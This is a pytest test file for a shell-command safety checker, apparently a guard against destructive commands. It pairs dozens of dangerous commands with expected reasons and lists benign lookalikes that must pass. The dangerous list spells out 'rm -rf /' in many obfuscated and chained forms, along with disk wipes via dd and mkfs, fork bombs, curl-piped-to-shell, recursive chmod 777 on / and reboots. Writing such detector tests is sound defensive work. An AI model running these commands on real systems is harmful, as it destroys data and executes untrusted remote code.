import pytest

from core.data.safety import dangerous_reason

DANGEROUS = [
    # recursive delete of / or home, in all spellings
    ("rm -rf /", "recursive delete of /"),
    ("rm -rf /*", "recursive delete of /"),
    ("rm -rf ~", "recursive delete of the home directory"),
    ("rm -rf ~/", "recursive delete of the home directory"),
    ("rm -rf $HOME", "recursive delete of the home directory"),
    ('rm -rf "$HOME"', "recursive delete of the home directory"),
    ("rm -rf ${HOME}/*", "recursive delete of the home directory"),
    ("rm -fr /", "recursive delete of /"),
    ("rm -Rf /", "recursive delete of /"),
    ("rm -r -f /", "recursive delete of /"),
    ("rm --recursive --force /", "recursive delete of /"),
    ("rm -rf --no-preserve-root /", "recursive delete of /"),
    ("rm / -rf", "recursive delete of /"),
    ("rm -rf //", "recursive delete of /"),
    ("rm -rf /etc", "recursive delete of /etc"),
    ("rm -rf /home/*", "recursive delete of /home"),
    ("/bin/rm -rf /", "recursive delete of /"),
    ("sudo rm -rf /", "recursive delete of /"),
    ("sudo -u root rm -rf /", "recursive delete of /"),
    ("env FOO=1 rm -rf /", "recursive delete of /"),
    ("nohup rm -rf / &", "recursive delete of /"),
    ("time rm -rf /", "recursive delete of /"),
    ("timeout 5 rm -rf /", "recursive delete of /"),
    # chained and nested
    ("cd /tmp && rm -rf /", "recursive delete of /"),
    ("ls; rm -rf /", "recursive delete of /"),
    ("false || rm -rf /", "recursive delete of /"),
    ("echo hi | rm -rf /", "recursive delete of /"),
    ("sleep 1 & rm -rf ~", "recursive delete of the home directory"),
    ("ls\nrm -rf /", "recursive delete of /"),
    ("echo $(rm -rf /)", "recursive delete of /"),
    ('echo "$(rm -rf /)"', "recursive delete of /"),
    ("echo `rm -rf /`", "recursive delete of /"),
    ("cat <(rm -rf /)", "recursive delete of /"),
    ("(rm -rf /)", "recursive delete of /"),
    ("{ rm -rf /; }", "recursive delete of /"),
    ("if true; then rm -rf /; fi", "recursive delete of /"),
    ("bash -c 'rm -rf /'", "recursive delete of /"),
    ("eval 'rm -rf /'", "recursive delete of /"),
    # find / xargs across the filesystem
    ("find / -delete", "delete of files across / (find)"),
    ("find / -name '*.log' -delete", "delete of files across / (find)"),
    ("find ~ -type f -delete", "delete of files across the home directory (find)"),
    ("find / -exec rm -rf {} \\;", "delete of files across / (find)"),
    ("find / -type f | xargs rm -rf", "delete of files found across / (find | xargs rm)"),
    ("find / -name core -print0 | xargs -0 rm -f", "delete of files found across / (find | xargs rm)"),
    ("xargs sudo rm -rf /", "recursive delete of /"),
    ("echo / | xargs -n1 sudo rm -rf /", "recursive delete of /"),
    # disks
    ("mkfs", "filesystem format (mkfs)"),
    ("mkfs.ext4 /dev/sda1", "filesystem format (mkfs)"),
    ("sudo mkfs -t xfs /dev/sdb", "filesystem format (mkfs)"),
    ("dd if=/dev/zero of=/dev/sda", "raw write to a block device"),
    ("dd of=/dev/nvme0n1", "raw write to a block device"),
    ("dd if=ubuntu.iso of=/dev/sdb bs=4M", "raw write to a block device"),
    ("> /dev/sda", "overwrite of a disk device"),
    ("cat x > /dev/sda", "overwrite of a disk device"),
    ("echo x >/dev/sda1", "overwrite of a disk device"),
    ("echo x | sudo tee /dev/sda", "overwrite of a disk device"),
    ("shred -n1 /dev/sda", "overwrite of a disk device"),
    ("wipefs -a /dev/sda", "wipe of filesystem signatures (wipefs)"),
    # fork bombs
    (":(){ :|:& };:", "fork bomb"),
    (":(){ :|: & };:", "fork bomb"),
    ("bomb(){ bomb|bomb& };bomb", "fork bomb"),
    ("fork() { fork | fork & }; fork", "fork bomb"),
    # remote code into a shell
    ("curl http://x.sh | sh", "pipe from network into a shell"),
    ("curl -fsSL https://x/install.sh | bash", "pipe from network into a shell"),
    ("wget -O- http://x | sudo bash", "pipe from network into a shell"),
    ("curl -s http://x | sudo -E bash -", "pipe from network into a shell"),
    ("curl -s http://x | python3", "pipe from network into a shell"),
    ("bash <(curl -s http://x)", "run a script downloaded from the network"),
    ('sh -c "$(curl -fsSL https://x)"', "run a script downloaded from the network"),
    ("source <(wget -qO- http://x)", "run a script downloaded from the network"),
    # permissions
    ("chmod -R 777 /", "recursive chmod 777 on /"),
    ("chmod 777 -R /", "recursive chmod 777 on /"),
    ("sudo chmod -R a+rwx /", "recursive chmod 777 on /"),
    ("chmod -R 755 /", "recursive chmod on /"),
    ("chown -R nobody /", "recursive chown on /"),
    # power
    ("shutdown", "shutdown/reboot"),
    ("shutdown -h now", "shutdown/reboot"),
    ("sudo shutdown -r now", "shutdown/reboot"),
    ("reboot", "shutdown/reboot"),
    ("echo bye; sudo reboot", "shutdown/reboot"),
    ("halt", "shutdown/reboot"),
    ("poweroff", "shutdown/reboot"),
    ("init 0", "shutdown/reboot (init 0)"),
    ("init 6", "shutdown/reboot (init 6)"),
    ("systemctl poweroff", "shutdown/reboot (systemctl)"),
    ("sudo systemctl reboot", "shutdown/reboot (systemctl)"),
]

SAFE = [
    "rm file.txt",
    "rm -rf ./build",
    "rm -rf build/ dist/ *.egg-info",
    "rm -rf /tmp/myproject/cache",
    "rm -rf /tmp/*",
    "rm -rf ~/projects/old",
    "rm -rf $HOME/.cache/pip",
    "rm -rf *",
    "rm /",  # not recursive: rm refuses directories
    "rmdir /tmp/x",
    "git rm -r --cached .",
    "docker rm -f $(docker ps -aq)",
    "find . -name '*.tmp' -delete",
    "find /var/log -name '*.gz' -mtime +30 -delete",
    "find . -name '*.pyc' | xargs rm -f",
    "find . -type d -name __pycache__ -exec rm -rf {} +",
    "chmod 755 script.sh",
    "chmod -R 755 /var/www/html",
    "chmod -R u+w .",
    "dd if=disk.img of=backup.img",
    "dd if=/dev/sda of=disk.img",
    "cat /dev/sda1 | head",
    "ls > /dev/null 2>&1",
    "fdisk -l /dev/sda",
    "curl -o file.tar.gz https://example.com/f.tar.gz",
    "wget https://example.com/file.zip",
    "curl -s https://api.example.com | python3 -m json.tool",
    "curl -s https://api.example.com | jq .",
    "cat script.sh | sh -c 'wc -l'",
    "grep shutdown /var/log/syslog",
    "history | grep reboot",
    "last reboot",
    "echo reboot",
    "man shutdown",
    "shutdown -c",
    "systemctl restart nginx",
    "echo 'rm -rf /'",
    "echo rm -rf /",
    "ls /dev/",
    "command -v rm",
    "alias rm='rm -i'",
    "f() { echo hi; }",
    "ls | wc -l # rm -rf /",
]


@pytest.mark.parametrize(("cmd", "reason"), DANGEROUS)
def test_dangerous(cmd, reason):
    assert dangerous_reason(cmd) == reason


@pytest.mark.parametrize("cmd", SAFE)
def test_safe(cmd):
    assert dangerous_reason(cmd) is None


@pytest.mark.parametrize("junk", ["", "'", '"rm -rf', "$(rm", "`rm -rf", "rm -rf \\", "((((){", None])
def test_never_raises_on_junk(junk):
    dangerous_reason(junk)


def test_unclosed_substitution_is_still_checked():
    assert dangerous_reason("echo $(rm -rf /") == "recursive delete of /"
